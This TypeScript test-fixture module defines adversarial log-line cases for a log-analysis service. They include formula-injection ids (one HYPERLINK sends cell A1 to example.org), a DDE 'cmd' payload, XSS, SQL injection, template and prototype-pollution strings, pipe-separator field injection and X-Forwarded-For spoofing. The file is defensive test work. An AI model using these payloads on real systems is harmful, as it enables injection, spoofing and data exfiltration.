// What a token holder can do with calls of their own: they happened, and count as what they are.
import { hourMs } from '../../src/core/domain/duration';
import {
  type Attack,
  type AttackDay,
  type AttackLines,
  type Call,
  instants,
  managerLine,
  nobody,
  ownService,
  ownUser,
} from './attack';

/** Users that no spreadsheet, page, pattern or query may take for anything but a text. */
const oddUsers = [
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  "＝cmd|' /C calc'!A0",
  '＋1+1',
  '－2+3',
  '＠SUM(A1)',
  '@sum(1)',
  '-rf',
  'a|b',
  '100%7C',
  '<img src=x onerror=alert(1)>@example.org',
  '"; DROP TABLE users; --',
  '`}|{namespace="oscar"',
  '${__user.token} {{service}} $1 $&',
  '__proto__',
  'constructor',
  '(users)',
  '<b>@example.org',
  'user\u202e@gro.elpmaxe',
];

/** Each as often as no other user, so that where a limit cuts does not depend on names. */
export const oddIds: Attack = {
  name: 'odd-ids',
  about: 'a token holder calls under ids with separators, formulas, HTML and full-width signs',
  lines(day) {
    // Who has the form of a member stays one.
    const plainOf = (sent: string, index: number) =>
      `odd-${String(index).padStart(2, '0')}${/.@./.test(sent) ? '@example.org' : ''}`;
    const users = oddUsers.map((sent, index) => [sent, plainOf(sent, index)] as const);
    const queue = users.flatMap(([sent, plain], index) =>
      Array.from({ length: day.maxRequests + users.length - index }, () => ({ sent, plain }))
    );
    const times = instants(day, queue.length);
    const linesOf = (name: 'sent' | 'plain') =>
      queue.map((user, index) => managerLine({ time: times[index] ?? 0, user: user[name] }));
    return { hostile: linesOf('sent'), truth: linesOf('plain'), aliases: users };
  },
};

/** Ids of up to 200 kB, hardly less than Loki takes for a line. */
export const giantIds: Attack = {
  name: 'giant-ids',
  about: 'a token holder calls under ids of 257 to 200,000 characters, and calls services with such names',
  lines(day) {
    const { random, scale } = day;
    const calls: Array<{ hostile: Call; truth: Call }> = instants(day, 40 * scale).map((time, index) => {
      const size = index % 20 === 0 ? 200_000 : random.pick([257, 300, 1_000, 20_000]);
      const text = `${random.hex(12)}${'a'.repeat(size - 12)}`;
      return index % 2 === 0
        ? { hostile: { time, user: text }, truth: { time, user: '(too long)' } }
        : { hostile: { time, status: 500, path: `/job/${text}` }, truth: { time, status: 500, path: '/job/_' } };
    });
    return {
      hostile: calls.map(({ hostile }) => managerLine(hostile)),
      truth: calls.map(({ truth }) => managerLine(truth)),
      isFlagged: true,
      note: /more than 256 characters/,
    };
  },
};

/** As many lines in a millisecond as an answer of Loki may have series, and more. */
export const bursts: Attack = {
  name: 'bursts',
  about: 'a token holder gets many calls logged in one millisecond',
  lines: (day) => {
    const [first = 0, one = 0, other = 0, last = 0] = instants(day, 4);
    return burst(day, [
      [first, 1],
      [one, 700],
      [other, 1_500 * day.scale],
      [last, 1],
    ]);
  },
};

function burst(day: AttackDay, sizes: ReadonlyArray<readonly [time: number, count: number]>): AttackLines {
  const callsOf = (isBurst: boolean) =>
    sizes.flatMap(([time, count]) =>
      Array.from({ length: count }, (_, index) =>
        managerLine({
          // What is no burst is spread over minutes of the same day.
          ...(isBurst ? { time, before: index * 150 } : { time: time + index * 20 }),
          path: `/job/${ownService}`,
          user: `burst-${index % 400}@example.org`,
          country: day.victim.country,
        })
      )
    );
  return { hostile: callsOf(true), truth: callsOf(false) };
}

/** Many requests of a user whom nobody has seen before. */
export const newUsers: Attack = {
  name: 'new-users',
  about: 'a token holder calls more than 1,000 times within an hour, under a new name',
  lines(day) {
    const start = day.start + 10 * hourMs;
    const calls = Array.from({ length: 1_200 }, (_, index) => ({
      time: start + index * 2_000,
      user: 'new@example.org',
    }));
    const lines = calls.map((call) => managerLine(call));
    return {
      hostile: lines,
      truth: lines,
      note: /a user who does not appear in the rest of the range made 1,200 requests/,
    };
  },
};

/** `X-Forwarded-For`, where a proxy lets callers set it: the address, and so the country, is a claim. */
export const headerGames: Attack = {
  name: 'header-games',
  about: 'callers choose their address, and so their country, with X-Forwarded-For',
  lines(day) {
    const claims = ['KP', 'AQ', 'A1', 'T1', 'XK', 'ES'];
    const calls = instants(day, 60 * day.scale).map((time, index) => ({
      time,
      claim: claims[index % claims.length],
      // Half of them without a token: rejected, and so of no country.
      ...(index % 2 === 0 ? {} : { status: 401, user: nobody }),
    }));
    const linesOf = (country: (claim: string | undefined) => string | undefined) =>
      calls.map(({ claim, ...call }) => managerLine({ ...call, country: country(claim) }));
    return {
      hostile: linesOf((claim) => claim),
      truth: linesOf(() => undefined),
      claimed: linesOf((claim) => (claim === 'A1' || claim === 'T1' ? undefined : claim)),
    };
  },
};

/** Eight fields, written by OSCAR itself, for a service that is the caller's own. */
export const ownEightFields: Attack = {
  name: 'own-eight-fields',
  about: 'a token holder calls their own service with separators in the path, logged in eight fields',
  lines(day) {
    const calls = instants(day, 30 * day.scale).map((time) => ({ time, country: day.victim.country }));
    const tail = ` | ${ownService} | oscar-svc`;
    return {
      hostile: calls.map((call) =>
        managerLine({
          ...call,
          path: `/job/${ownService}/x | ${day.victim.user} | ${day.victim.service}`,
          user: `${ownUser}${tail}`,
        })
      ),
      truth: calls.map((call) => managerLine(call)),
    };
  },
};
